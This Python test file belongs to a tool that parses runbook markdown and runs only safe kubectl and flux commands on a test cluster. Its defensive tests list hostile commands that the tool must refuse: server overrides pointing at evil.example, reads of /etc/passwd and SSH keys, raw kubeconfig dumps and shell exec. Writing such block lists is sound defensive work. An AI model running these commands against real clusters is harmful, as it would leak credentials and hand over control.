"""A runbook: which section is about what, which commands can be run as they are written, and what the tree says against them."""

import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.drivers.driver import DriverError
from holdfast.errors import NotExercised
from holdfast.events import Assertion
from holdfast.experiment import Experiment
from holdfast.journal import Journal, read_file
from holdfast.paths import ROOT
from holdfast.provision import tools
from holdfast.runbook import Runbook
from holdfast.terminal import Terminal
from holdfast.tree import check as checking
from holdfast.tree.runbook import SCENARIOS, commands, sections
from suites.harness import toy

REFERENCE = (ROOT / "fixtures" / "gitops" / "docs" / "runbook.md").read_text()


def block(*lines, language="bash"):
    return "\n".join(["# Flux is down", "", f"```{language}", *lines, "```", ""])


def one(*lines, language="bash"):
    (found,) = commands(block(*lines, language=language))
    return found


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("kubectl get nodes  # which is away", "kubectl get nodes"),
        ("$ flux get kustomizations -A", "flux get kustomizations -A"),
        ("kubectl -n apps get pods | grep web", "kubectl -n apps get pods"),
        ("kubectl get pods -A 2>/dev/null", "kubectl get pods -A"),
        ("kubectl rollout status deployment/web > /dev/null 2>&1", "kubectl rollout status deployment/web"),
        ("kubectl get pods -A | grep -v Running | sort", "kubectl get pods -A"),
        ("kubectl --namespace=x get pods", "kubectl --namespace=x get pods"),
        (
            'kubectl patch deploy web -p \'{"spec": {"url": "https://x"}}\'',
            'kubectl patch deploy web -p {"spec": {"url": "https://x"}}',
        ),
        ("kubectl get --raw /readyz", "kubectl get --raw /readyz"),
        ("kubectl get --raw=/readyz", "kubectl get --raw=/readyz"),
        ("flux -n apps resume hr 'web'", "flux -n apps resume hr web"),
    ],
)
def test_what_can_be_run_as_it_is_written(line, words):
    found = one(line)
    assert not found.not_run
    assert " ".join(found.words) == words
    assert found.line == 4


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("kubectl drain $NODE", "variable"),
        ("kubectl delete pod $(kubectl get pods -o name)", "variable"),
        ("kubectl drain NODE_NAME", "NODE_NAME"),
        ("kubectl delete pod <pod>", "left to a shell"),
        ("kubectl get pods -o name | xargs kubectl delete", "left to a shell"),
        ("kubectl get deploy x -o yaml | kubectl replace --force -f -", "left to a shell"),
        ("kubectl get deploy x || kubectl apply -f x.yaml", "left to a shell"),
        ("kubectl get pods & kubectl delete ns x", "left to a shell"),
        ("kubectl get pods > pods.txt", "left to a shell"),
        ("kubectl logs -f web", "until somebody ends it"),
        ("kubectl get pods -w", "isn't known here: -w"),
        ("kubectl delete -f x.yaml | tee log", "left to a shell"),
        ("kubectl --context home delete pod x", "nothing that is run here"),
        ("kubectl --kubeconfig=/etc/x get pods", "nothing that is run here"),
        ("kubectl exec -it web -- sh", "nothing that is run here"),
        ("kubectl cnpg promote db", "nothing that is run here"),
        ("kubectl create secret generic x --from-file=/root/.ssh/id", "isn't known here: --from-file"),
        ("kubectl apply -f ../../etc/x.yaml", "outside of the tree"),
        ("kubectl apply -f ~/x.yaml", "outside of the tree"),
        ("kubectl get pods --profile=cpu --profile-output=x", "isn't known here: --profile"),
        ("flux uninstall", "nothing that is run here"),
        ("kubectl apply -f https://example.org/x.yaml", "it has an address"),
        ("sudo systemctl restart k3s", "isn't kubectl or flux"),
        ("kubectl get 'pods", "can't read it"),
    ],
)
def test_what_cannot_says_why(line, why):
    assert (why in one(line).not_run) if why else not one(line).not_run


# What a hostile tree would have typed: to run a program, to reach or write another cluster, to read or fetch what isn't in the tree.
@pytest.mark.parametrize(
    "line",
    [
        "kubectl --username get config set-credentials x --exec-command=sh",
        "kubectl --username get config set clusters.x.server http://127.0.0.1:1",
        "kubectl --username get proxy --address=0.0.0.0",
        "kubectl --password get proxy",
        "kubectl --as-user-extra get config view",
        "kubectl auth reconcile -f rbac.yaml -shttp://127.0.0.1:8001",
        "kubectl auth reconcile -f rbac.yaml",
        "kubectl get pods -shttp://127.0.0.1:1",
        "kubectl get pods -As https://evil.example",
        "kubectl get pods -Ashttps://evil.example",
        "kubectl get pods --server=https://evil.example",
        "kubectl get pods -s https://evil.example",
        "kubectl get pods --context=home",
        "kubectl get pods --dry-run -shttp://127.0.0.1:1",
        "kubectl get pods --dry-run --server=http://127.0.0.1:1",
        "kubectl delete pod x --cascade --kubeconfig=x",
        "kubectl get pods -n --server=http://127.0.0.1:1",
        "kubectl get pods --token=x",
        "kubectl apply -f/etc/passwd",
        "kubectl apply -Rf/etc",
        "kubectl scale --replicas=1 -f/etc/passwd",
        "kubectl apply -f../../x",
        "kubectl get -f http://127.0.0.1:1/y.yaml",
        "kubectl diff -f https://evil.example/x.yaml",
        "kubectl apply -k apps",
        "kubectl apply -k github.com/evil/repo",
        "kubectl apply -f github.com/evil/repo/x.yaml",
        "kubectl create -f x.yaml --raw /api",
        "kubectl delete --raw /api/v1/namespaces/x",
        "kubectl get --raw https://evil.example",
        "kubectl get pods -o go-template-file=/etc/passwd",
        "kubectl get pods -o jsonpath-file=x",
        "kubectl debug node/k3s1 --image=x",
        "kubectl run x --image=x",
        "kubectl cluster-info dump --output-directory=/etc",
        "kubectl exec web -- sh",
        "kubectl get pods -- sh",
        "kubectl plugin list",
        "kubectl config view --raw",
        "kubectl create secret generic x --from-env-file=.env",
        "flux diff artifact oci://evil.example/x --path .",
        "flux create secret git x --url=ssh://evil.example",
        "flux export source git x --kubeconfig /etc/x",
        "flux reconcile kustomization apps --kubeconfig=/etc/x",
        "flux build kustomization apps --path ./apps --kustomization-file x",
    ],
)
def test_what_a_hostile_runbook_says_is_never_typed(line):
    assert one(line).not_run, line


OPTIONS = [
    "--server",
    "-s",
    "--kubeconfig",
    "--context",
    "--username",
    "--as",
    "-k",
    "--plugin",
    "--exec-command",
    "--v",
    "-v=9",
    "--cache-dir",
]


@given(
    st.sampled_from(["kubectl get", "kubectl", "flux get all", "kubectl -n x delete"]),
    st.sampled_from(OPTIONS),
    st.sampled_from([" ", "=", ""]),
    st.sampled_from(["x", "get", "http://127.0.0.1:1"]),
)
def test_an_option_that_is_not_known_is_never_typed_wherever_it_stands(start, option, joined, value):
    for line in (f"{start} {option}{joined}{value} pods", f"{start} pods {option}{joined}{value}"):
        assert one(line).not_run, line


def test_continued_lines_several_commands_and_a_here_document():
    found = commands(
        block("kubectl get \\", "  nodes && flux resume ks apps", "kubectl apply -f - <<EOF", "kind: Pod", "EOF")
    )
    assert [c.words for c in found] == [
        ("kubectl", "get", "nodes"),
        ("flux", "resume", "ks", "apps"),
        ("kubectl", "apply", "-f", "-"),
    ]
    assert [c.line for c in found] == [4, 4, 6]
    assert found[-1].stdin == "kind: Pod\n"
    assert "variable" in one("kubectl apply -f - <<EOF", "name: $NAME", "EOF").not_run
    assert not one("kubectl apply -f - <<'EOF'", "name: $NAME", "EOF").not_run


def test_of_a_session_with_its_output_only_what_follows_a_prompt_is_a_command():
    assert one("$ kubectl get nodes", "k3s1  Ready", language="console").words == ("kubectl", "get", "nodes")
    assert not commands(block("kind: Pod", "kubectl: x", language="yaml"))
    assert one("NAME READY", "kubectl get nodes", language="").words == ("kubectl", "get", "nodes")


def test_a_title_over_everything_is_no_section_of_its_own():
    text = "# Runbook of the flux cluster\n\n## Ingress down\n\n## Flux down\n\n### Once it is back\n\n    flux get all\n\n## Nodes\n"
    found = sections(text)
    assert {s: f.line for s, f in found.items()} == {"ingress down": 3, "Flux down": 5, "a node lost": 11}
    assert not found["Flux down"].commands
    assert [c.verb for c in found["Flux down"].afterwards] == ["get"]


def test_the_reference_trees_runbook_is_read_whole():
    found = sections(REFERENCE)
    assert set(found) == set(SCENARIOS)
    not_run = [c.words[0] for c in commands(REFERENCE) if c.not_run]
    assert not_run == ["sudo"] * 3


@given(st.text())
def test_any_text_is_read(text):
    for found in commands(block(*text.splitlines())):
        assert found.not_run or found.words[0] in ("kubectl", "flux")


@pytest.fixture(scope="module")
def kustomize():
    return tools.kustomize()


@pytest.mark.parametrize(
    ("line", "verdict", "why"),
    [
        ("flux reconcile ks storage", "held", ""),
        ("flux reconcile source git flux-system", "held", ""),
        ("flux reconcile ks storages", "broke", "storage is meant"),
        ("flux resume helmrelease longhorn", "broke", "is in longhorn-system, not in flux-system"),
        ("flux suspend hr -n longhorn-system longhorn", "held", ""),
        ("flux reconcile hr nothing-like-it -n apps", "broke", "nothing in the tree makes"),
        ("flux reconsile ks storage", "broke", "reconcile is meant"),
        ("kubectl cnpg status db", "unproven", "no verb cnpg"),
        ("kubectl get 'pods", "broke", "no closing quotation"),
    ],
)
def test_the_tree_speaks_against_a_command(kustomize, tmp_path, line, verdict, why):
    tree = shutil.copytree(ROOT / "fixtures" / "gitops", tmp_path / "tree")
    file = tree / "docs" / "runbook.md"
    file.write_text(REFERENCE.replace("flux get kustomizations", line))
    found = checking.check(checking.load(tree, kustomize)).claims["emergency-procedures"]
    assert found.verdict == verdict, found.reason
    assert why in found.reason


def test_without_a_section_or_a_command_it_is_not_held(kustomize, tmp_path):
    tree = shutil.copytree(ROOT / "fixtures" / "gitops", tmp_path / "tree")
    file = tree / "docs" / "runbook.md"
    for text in (
        REFERENCE.replace("## The ingress is down", "## Nothing is reached"),
        REFERENCE.replace("```bash\nflux reconcile helmrelease ingress-nginx", "```yaml\n"),
    ):
        file.write_text(text)
        assert checking.check(checking.load(tree, kustomize)).claims["emergency-procedures"].verdict == "unproven"


# -- following it ----------------------------------------------------------------------------------------------------------


@pytest.fixture
def followed(tmp_path):
    """A cluster of the toy's with a test that runs on it, and how that test's assertions came out."""
    path, _ = toy.fresh(tmp_path)
    cluster = toy.cluster(toy.World(path), tmp_path / "undo.jsonl")
    journal = Journal(tmp_path / "journal.jsonl")
    cluster.experiment = Experiment(journal, "a test", "fault")

    def follow(*lines, within_s=30.0, heading="Flux is down"):
        text = block(*lines).replace("Flux is down", heading)
        book = Runbook(cluster, "docs/runbook.md", text, tmp_path)
        left_s = book.follow("Flux down", within_s, ())
        seen = list(read_file(tmp_path / "journal.jsonl").of(Assertion))[-1]
        return seen["held"], seen["sighting"], left_s

    follow.cluster, follow.path = cluster, path
    return follow


def test_each_step_is_typed_and_what_is_left_of_the_time_is_said(followed):
    held, said, left_s = followed("kubectl get nodes", "flux resume ks apps")
    assert (held, said) == (True, "2 steps worked")
    assert 0 < left_s <= 30


def test_a_step_that_fails_is_said_with_its_line_and_words_and_ends_it(followed):
    held, said, _ = followed("kubectl get nodes", "kubectl get node absent", "sudo reboot")
    assert held is False
    assert said == "docs/runbook.md:5: kubectl get node absent ended with 1: not found"


def test_what_cannot_be_run_leaves_it_unproven(followed):
    held, said, _ = followed("kubectl get nodes", "sudo reboot")
    assert held is None
    assert "line 5: it isn't kubectl or flux: sudo" in said
    assert followed("# nothing")[0] is None


def test_a_section_that_is_not_there_is_not_exercised(followed):
    with pytest.raises(NotExercised, match="no section on: Flux down"):
        followed("kubectl get nodes", heading="Longhorn is down")


def test_a_run_that_dies_at_the_terminal_leaves_a_cluster_in_doubt(followed):
    cluster = followed.cluster
    followed("kubectl get nodes")
    assert not cluster.undo.open_steps()  # all was typed: what came of it is looked at by whoever typed it
    with pytest.raises(KeyboardInterrupt), cluster.inject.by_hand(followed.path.parent):
        raise KeyboardInterrupt
    with pytest.raises(DriverError, match="cut short"):
        cluster.inject.heal()


def test_a_command_whose_time_is_up_is_ended_with_what_it_started(tmp_path):
    program = tmp_path / "kubectl"
    program.write_text("#!/bin/sh\n/bin/sleep 60 &\necho $!\nwait\n")
    program.chmod(0o755)
    typed = Terminal(lambda _: program, tmp_path / "kubeconfig", tmp_path).type(["kubectl"], timeout_s=0.5)
    assert typed.code is None
    assert typed.took_s < 30
    assert not _runs(typed.last)


def _runs(pid):
    try:
        return Path(f"/proc/{pid}/stat").read_text().split()[2] != "Z"
    except OSError:
        return False


def test_a_command_knows_one_kubeconfig_and_nothing_of_the_user(tmp_path, monkeypatch):
    monkeypatch.setenv("KUBECONFIG", "/of/the/user")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "x")
    program = tmp_path / "kubectl"
    program.write_text(
        "#!/bin/sh\necho written >> $KUBECONFIG\nread -r line < $KUBECONFIG\necho $line $PATH ${AWS_SECRET_ACCESS_KEY-none} $HOME\n"
    )
    program.chmod(0o755)
    (tmp_path / "kubeconfig").write_text("of-the-lane\n")
    typed = Terminal(lambda _: program, tmp_path / "kubeconfig", tmp_path).type(["kubectl"])
    config, key, home = typed.last.split()
    assert (config, key) == ("of-the-lane", "none")
    assert not Path(home).exists()
    assert (tmp_path / "kubeconfig").read_text() == "of-the-lane\n"  # what a command writes is a copy's


def test_an_upgrade_that_is_cut_short_leaves_a_cluster_in_doubt(followed):
    cluster = followed.cluster
    with pytest.raises(DriverError, match="wasn't brought"):
        cluster.inject.upgrade_node("k3s1", "1.37.2")
    with pytest.raises(DriverError, match=r"k3s1 was on its way to Kubernetes 1\.37\.2, and cut short"):
        cluster.inject.heal()


def test_an_upgrade_that_ends_leaves_nothing_to_undo(followed):
    cluster = followed.cluster
    cluster.inject.bring_version("1.37.2")
    assert cluster.inject.upgrade_node("k3s1", "1.37.2") >= 0
    assert not cluster.undo.open_steps()
    assert toy.World(followed.path).read()["versions"] == {"k3s1": "1.37.2"}


def test_a_link_out_of_the_tree_is_not_followed(followed):
    (followed.path.parent / "link.yaml").symlink_to("/etc/hostname")
    held, said, _ = followed("kubectl apply -f link.yaml")
    assert held is None
    assert "outside of the tree" in said


def test_a_folder_that_holds_a_link_out_of_the_tree_is_not_given_and_a_long_word_is_no_file(followed):
    folder = followed.path.parent / "folder"
    folder.mkdir()
    (folder / "x.yaml").symlink_to("/etc/hostname")
    assert followed("kubectl apply -f folder")[0] is None
    assert followed('kubectl patch deploy x -p \'{"a": "' + "b" * 400 + "\"}'")[0] is True


def test_a_change_that_fails_leaves_a_cluster_in_doubt_and_a_look_does_not(followed):
    cluster = followed.cluster
    followed("kubectl get node absent")
    assert not cluster.undo.open_steps()
    followed("kubectl delete node absent")
    with pytest.raises(DriverError, match="cut short"):
        cluster.inject.heal()


def test_steps_that_change_nothing_bring_nothing_back(followed):
    held, said, _ = followed("kubectl get nodes", "flux get all")
    assert held is None
    assert "none of them changes anything" in said


def test_nodes_get_their_taints_back(followed):
    cluster = followed.cluster
    cluster.inject.safeguard_nodes()
    steps = [s for s in cluster.undo.open_steps() if s["kind"] == "Node"]
    assert {s["name"] for s in steps} == {"k3s1", "k3s2"}
    assert all(s["body"] == {"spec": {"taints": None, "unschedulable": False}} for s in steps)
